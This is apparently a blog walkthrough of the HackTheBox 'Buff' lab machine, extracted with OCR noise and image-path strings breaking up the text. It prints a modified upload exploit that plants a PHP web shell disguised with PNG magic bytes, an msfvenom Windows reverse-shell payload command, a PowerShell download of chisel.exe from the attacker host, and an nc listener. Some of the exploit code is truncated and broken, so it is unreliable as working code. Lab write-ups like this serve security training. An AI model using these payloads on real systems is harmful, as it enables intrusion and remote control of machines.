hackthebox – Buff

Nmap scan

nmap -A -Pn -oN nmap.txt
TCP 8080 is found

Gym management software

This is the main page of the gym management web application
On the contact page it shows the Gym Management Software 1.0.

Gym Management Software vulnerability

By searching the web there is a vulnerability of Gym Management software version 1.0 – https://www.exploit-db.com/exploits/48506

The problem is that the upload.php in the software package only validates the file extensionand the file type but no authentication is validated.

The code validates the file extension and the file types but no authentication.

Customized the original exploit script

import requests

# The following code is a modification from this source: https://www.exploit-db.com/exploits/48506

# the id arbitrary since authentication is not verified. Instead only the file extension
# and the file type are checked.
url = ""
success = ""

# https://blog.netspi.com/magic-bytes-identifying-common-file-formats-at-a-glance/
png_magic_bytes = "\x89\x50\x4e\x47\x0d\x0a\x1a\x0a"

png = {
    "file": (
        f"{png_magic_bytes}<?php echo shell_exec($_GET['cmd']); ?>",
        {"content-disposition": "form-data"}

form_data = dict(pupload="upload")
resp = requests.post(url=url, files=png, data=form_data, verify=False)if resp.status_code == 200:
        # throws whichever output to the terminal
        while True:
            user_input = input(">")
            cmd_output = requests.get(success, params={"cmd": user_input}, verify=False)
            if cmd_output.status_code == 200:
    except KeyboardInterrupt as e:

This is how the script output looks like, basically the terminal looks like a shell but frankly it is not, the script uploads the cyruslab.php to the vulnerable path, the cyruslab.phpcontains:

<?php echo shell_exec($_GET['cmd']); ?>

the script simply displays the result of the command back to the terminal.

Get the user flag

Get the user’s flag after running the exploit

Cloudme and its vulnerability

Enumerating the shuan’s home directory a cloudme program is found.


The cloudme uses port 8888 and listen on localhost on victim’s machine.

cloudme runs as a servicethere is a working exploit written in python https://www.exploit-db.com/exploits/48389

The only item that needs to be changed in the original exploit script is the payload variable, on the script’s documentation it recommends the use of msfvenom.

msfvenom -p windows/shell_reverse_tcp LHOST= LPORT=4444 -b '\x00\x0A\x0D' -v payload -f python

Later replace the output to this script:

Replace the original payload in the script with the msfvenom result.

Lateral movement with chisel

Chisel can be downloaded here. Basically this is a proxy software that can be use to do port forwarding.

On the attacker machine start the chisel server:

On the victim machine upload the chisel forwindows.

Start the http server on attacker machine:

sudo python3 -m http.server 80

Then on victim machine run this command:

powershell Invoke-WebRequest -Uri -OutFile chisel.exe

Then on the victim machine run the chisel client:

chisel.execlient R:8888:

Successful connection will be like this:

Victim connects to the attacker machine
On attacker machine it will listen on port 8888

Whenever traffic throws to on attacker machine, the traffic will be tunneled to victim machine until its localhost:8888

Get the rootflag

Setup nc server on attacker machine

nc -lvnp 4444

The port has to match the msfvenomconfiguration previously generated.

The run the exploit script modified with the configured msfvenom payload.


Leave a Reply

Fill in your details below or click an icon to log in:

WordPress.com Logo

You are commenting using your WordPress.com account. Log Out /  Change )

Facebook photoYou are commenting using your Facebook account. Log Out /  Change )

Connecting to %s